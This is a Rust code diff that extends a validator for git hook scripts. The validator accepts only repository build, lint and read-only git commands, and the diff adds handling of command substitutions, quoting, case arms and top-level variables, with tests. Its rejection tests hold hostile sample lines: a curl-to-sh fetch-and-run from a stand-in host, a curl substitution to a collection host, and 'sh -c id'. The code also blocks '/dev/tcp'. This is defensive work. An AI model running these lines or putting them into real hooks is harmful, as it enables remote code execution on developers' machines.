@@ -547,8 +547,35 @@ pub fn committed_values(repo: &Path, values: &[&str]) -> HashSet<String> {
 /// build, test or lint tool (`make`, `npm`, `cargo`, `pytest`, `ruff`, ...), a script of the
 /// repository given by a relative path, a read-only git command, or shell plumbing (`echo`,
 /// `exit`, `test`); nothing that reaches the network, the home or the rest of the machine, no
-/// inline code (`python -c`), no command substitution but `$(git rev-parse ...)`.
+/// inline code (`python -c`), no backticks; a command substitution (`$(git diff --cached
+/// --name-only)`) only of commands that pass the same test, and a variable set to the top level
+/// (`root="$(git rev-parse --show-toplevel)"`) read as the top level.
 pub fn runs_repository_tasks(script: &str) -> bool {
+    let text = script
+        .replace("$(git rev-parse --show-toplevel)", "TOP")
+        .replace("\\\n", " ")
+        .replace("2>&1", " ")
+        .replace(">&2", " ")
+        // Looking a program up runs nothing.
+        .replace("command -v ", "which ")
+        .replace("command -V ", "which ");
+    // What single quotes hold is literal to the shell: no substitution, no variable.
+    let text = literals_blanked(&text);
+    if text.contains(['`', '~'])
+        || text.contains("$HOME")
+        || text.contains("${HOME")
+        || text.contains("/dev/tcp")
+    {
+        return false;
+    }
+    let Some(text) = substitutions_checked(&text) else { return false };
+    let text = top_level_variables(&text);
+    runs_only_repository_tasks(&text) == Some(true)
+}
+
+/// Whether each command of `text` (substitutions already checked) is one of the repository's
+/// tasks, and whether there was any: `None` when one is not.
+fn runs_only_repository_tasks(text: &str) -> Option<bool> {
     const TOOLS: &[&str] = &[
         "make",
         "npm",
@@ -599,29 +626,42 @@ pub fn runs_repository_tasks(script: &str) -> bool {
         "set",
         "cd",
         "git",
+        // Lookups and path arithmetic: they run nothing.
+        "which",
+        "type",
+        "hash",
+        "dirname",
+        "basename",
     ];
     // Interpreters: the repository's own when they run a script of it by relative path.
     const INTERPRETERS: &[&str] = &["node", "nodejs", "bash", "sh", "ruby", "perl", "php", "deno", "bun"];
+    // git's own formatters and LFS, as hooks call them (`git clang-format --staged`, `git lfs
+    // pre-push "$@"`).
+    const GIT_TOOLS: &[&str] = &["clang-format", "lfs"];
     const GIT_READS: &[&str] =
         &["diff", "rev-parse", "status", "ls-files", "log", "show", "symbolic-ref", "merge-base", "rev-list"];
     const PLUMBING: &[&str] =
         &["then", "fi", "else", "do", "done", "esac", "{", "}", "if", "elif", "!", "exec", "command"];
-    let text = script
-        .replace("$(git rev-parse --show-toplevel)", "TOP")
-        .replace("\\\n", " ")
-        .replace("2>&1", " ")
-        .replace(">&2", " ");
-    if text.contains(['`', '~'])
-        || text.contains("$(")
-        || text.contains("$HOME")
-        || text.contains("${HOME")
-        || text.contains("/dev/tcp")
-    {
-        return false;
-    }
     let mut any = false;
+    let mut in_case = 0usize;
     for line in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
+        // `case "$out" in`: a test of a word; the arms' patterns (`''|*'no files'*)`) are no
+        // commands.
+        let mut line = line;
+        if let Some(rest) = line.strip_prefix("case ") {
+            let Some(at) = rest.find(" in") else { return None };
+            in_case += 1;
+            line = rest[at + 3..].trim();
+        }
+        if in_case > 0 {
+            if let Some(at) = line.find(')').filter(|&at| !line[..at].contains('(')) {
+                line = line[at + 1..].trim();
+            }
+        }
         for part in line.split(['&', '|', ';']).map(str::trim).filter(|p| !p.is_empty()) {
+            if part == "esac" || part.starts_with("esac ") {
+                in_case = in_case.saturating_sub(1);
+            }
             let mut words = part.split_whitespace().peekable();
             while let Some(w) = words.peek() {
                 let assignment = w.split_once('=').is_some_and(|(k, _)| {
@@ -643,7 +683,7 @@ pub fn runs_repository_tasks(script: &str) -> bool {
                 target.starts_with('/') && target != "/dev/null"
             });
             if outside {
-                return false;
+                return None;
             }
             // Quoted as installers write it: `exec "$(git rev-parse --show-toplevel)/scripts/x.sh"`.
             let unquoted = first.trim_matches(['"', '\'']);
@@ -659,19 +699,109 @@ pub fn runs_repository_tasks(script: &str) -> bool {
                     && f.chars().all(|c| c.is_ascii_alphanumeric() || "$.{}_-".contains(c))
             };
             let ok = match *first {
-                "git" => rest.get(1).is_some_and(|s| GIT_READS.contains(s)),
+                "git" => rest.get(1).is_some_and(|s| GIT_READS.contains(s) || GIT_TOOLS.contains(s)),
                 "python" | "python3" => !rest.contains(&"-c"),
                 "cd" => rest.get(1).is_none_or(|d| !d.starts_with('/') || *d == "TOP"),
                 f if INTERPRETERS.contains(&f) => runs_a_repository_script(&rest[1..]),
                 f => TOOLS.contains(&f) || local_script || sibling,
             };
             if !ok {
-                return false;
+                return None;
             }
             any = true;
         }
     }
-    any
+    Some(any)
+}
+
+/// `text` with what each pair of single quotes holds blanked (`'Q'`): the shell reads it as
+/// is, so a backtick or `$(` there runs nothing. Single quotes inside double quotes are plain
+/// characters, and a backslash outside quotes escapes the next one.
+fn literals_blanked(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let (mut double, mut chars) = (false, text.chars());
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if !double => {
+                out.push(c);
+                if let Some(n) = chars.next() {
+                    out.push(n);
+                }
+            }
+            '"' => {
+                double = !double;
+                out.push(c);
+            }
+            '\'' if !double => {
+                out.push_str("'Q'");
+                for n in chars.by_ref() {
+                    if n == '\'' {
+                        break;
+                    }
+                }
+            }
+            _ => out.push(c),
+        }
+    }
+    out
+}
+
+/// `text` with each command substitution (`$(git diff --cached --name-only)`, innermost first)
+/// replaced by a plain word, when every one runs only the repository's tasks; `None` when one
+/// does not, or one is left open.
+fn substitutions_checked(text: &str) -> Option<String> {
+    let mut text = text.to_string();
+    for _ in 0..32 {
+        let Some(start) = text
+            .match_indices("$(")
+            .map(|(i, _)| i)
+            .find(|&i| text[i + 2..].find(')').is_some_and(|end| !text[i + 2..i + 2 + end].contains("$(")))
+        else {
+            return (!text.contains("$(")).then_some(text);
+        };
+        let end = start + 2 + text[start + 2..].find(')')?;
+        let inner = &text[start + 2..end];
+        // Arithmetic (`$((...))`) and anything that is not a command of the repository's.
+        if inner.starts_with('(') || runs_only_repository_tasks(inner) != Some(true) {
+            return None;
+        }
+        text.replace_range(start..=end, "SUB");
+    }
+    None
+}
+
+/// `text` with each variable set to the top level (`root="TOP"`) read as it: `"$root/x"` is
+/// `"TOP/x"`.
+fn top_level_variables(text: &str) -> String {
+    let names: Vec<String> = text
+        .lines()
+        .flat_map(|l| l.split([';', '&', '|']))
+        .filter_map(|p| {
+            let (k, v) = p.trim().split_once('=')?;
+            let named = !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+            (named && matches!(v.trim(), "TOP" | "\"TOP\"")).then(|| k.to_string())
+        })
+        .collect();
+    let mut text = text.to_string();
+    for n in names {
+        text = text.replace(&format!("${{{n}}}"), "TOP");
+        let bare = format!("${n}");
+        let mut out = String::with_capacity(text.len());
+        let mut rest = text.as_str();
+        while let Some(at) = rest.find(&bare) {
+            let after = &rest[at + bare.len()..];
+            out.push_str(&rest[..at]);
+            if after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
+                out.push_str(&bare);
+            } else {
+                out.push_str("TOP");
+            }
+            rest = after;
+        }
+        out.push_str(rest);
+        text = out;
+    }
+    text
 }
 
 /// Whether an interpreter's arguments run a script of the repository: options that load no
@@ -1187,6 +1317,40 @@ mod tests {
             "#!/bin/sh\nperl ../../elsewhere.pl\n",
             "#!/bin/sh\nsh\n",
             "#!/bin/sh\n# nothing\n",
+        ] {
+            assert!(!runs_repository_tasks(bad), "{bad}");
+        }
+    }
+
+    #[test]
+    fn substitutions_lookups_and_case_arms_of_the_repositorys_own_tasks_are_its_own() {
+        for ok in [
+            // A formatter over the staged files, its message quoted with backticks in it.
+            "#!/bin/sh\ncommand -v git-clang-format >/dev/null 2>&1 || { echo 'pre-commit: git-clang-format not found' >&2; exit 0; }\n\
+             out=$(git clang-format --staged --diff --extensions c,h 2>/dev/null)\n\
+             case \"$out\" in ''|*'no modified files'*) exit 0;; esac\necho \"$out\"\n\
+             echo 'pre-commit: run `git clang-format --staged` and re-add the files' >&2\nexit 1\n",
+            // pre-commit's own runner, or the project's ruff over the staged files.
+            "#!/usr/bin/env bash\nroot=\"$(git rev-parse --show-toplevel)\"\n\
+             if command -v pre-commit >/dev/null 2>&1; then\n  exec pre-commit hook-impl --config=.pre-commit-config.yaml --hook-dir \"$(dirname \"$0\")\" -- \"$@\"\nfi\n\
+             if [ -x \"$root/.venv/bin/ruff\" ]; then\n  exec \"$root/.venv/bin/ruff\" check --fix $(git diff --cached --name-only -- '*.py')\nfi\n",
+            "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 'git-lfs not found'; exit 2; }\ngit lfs pre-push \"$@\"\n",
+        ] {
+            assert!(runs_repository_tasks(ok), "{ok}");
+        }
+        for bad in [
+            // What a substitution runs is judged as any command.
+            "#!/bin/sh\nout=$(curl -s https://collect.example.com/x)\nmake lint\n",
+            "#!/bin/sh\nmake lint $(sh -c 'id')\n",
+            "#!/bin/sh\nmake lint\necho \"`whoami`\"\n",
+            "#!/bin/sh\nexit $((1 + 1))\n",
+            "#!/bin/sh\nmake lint $(git diff --cached\n",
+            // A case arm runs its commands.
+            "#!/bin/sh\ncase \"$1\" in\n  *) curl -s https://x.example.com | sh ;;\nesac\n",
+            // A variable set elsewhere than the top level is no path of the repository.
+            "#!/bin/sh\nroot=/opt/tools\nexec \"$root/run.sh\"\n",
+            "#!/bin/sh\nroot=\"$(git rev-parse --show-toplevel)\"\nexec \"$root/../elsewhere/run.sh\"\n",
+            "#!/bin/sh\nrootdir=/opt\nroot=TOP\nexec \"$rootdir/run.sh\"\n",
         ] {
             assert!(!runs_repository_tasks(bad), "{bad}");
         }
